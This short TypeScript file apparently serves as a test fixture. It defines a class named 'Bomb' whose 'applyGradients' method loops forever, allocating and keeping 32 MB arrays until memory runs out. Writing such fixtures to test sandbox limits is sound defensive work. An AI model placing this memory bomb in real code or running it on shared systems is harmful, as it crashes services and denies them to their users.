const all: Uint8Array[] = [];

export default class Bomb {
  applyGradients(): void {
    for (;;) all.push(new Uint8Array(32 * 1024 * 1024).fill(1));
  }
}
